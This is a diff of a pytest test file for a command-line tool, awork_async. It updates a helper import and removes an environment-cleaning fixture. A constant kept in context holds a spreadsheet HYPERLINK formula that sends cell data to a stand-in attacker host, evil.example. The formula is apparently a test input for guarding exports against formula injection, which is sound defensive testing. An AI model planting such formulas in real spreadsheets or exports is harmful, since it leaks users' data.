@@ -14,7 +14,7 @@ from collections.abc import Iterator
 from pathlib import Path
 
 import pytest
-from test_cli_helpers import threaded_sandbox
+from _helpers import threaded_sandbox
 from typer.testing import CliRunner, Result
 
 from awork_async.cli import app
@@ -22,13 +22,6 @@ from awork_async.sandbox import Sandbox
 
 OLD = b'{"id": "an export the user wants to keep"}\n'
 FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"click")'
-
-
-@pytest.fixture(autouse=True)
-def _clean_env(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
-    for name in ("AWORK_TOKEN", "AWORK_BASE_URL", "AWORK_ASYNC_CONFIG", "AWORK_ASYNC_CRASH_AFTER"):
-        monkeypatch.delenv(name, raising=False)
-    monkeypatch.setenv("XDG_CONFIG_HOME", str(tmp_path / "xdg"))
 
 
 @pytest.fixture(scope="module")
